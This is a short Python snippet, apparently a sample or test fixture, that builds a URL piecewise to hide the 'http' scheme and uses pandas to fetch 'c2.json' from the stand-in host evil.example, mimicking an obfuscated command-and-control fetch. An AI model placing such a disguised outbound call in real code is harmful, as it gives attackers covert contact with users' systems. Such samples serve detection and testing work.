import pandas as pd

scheme = "ht" + "tp"
pd.read_json(scheme + "://evil.example/" + "c2.json")
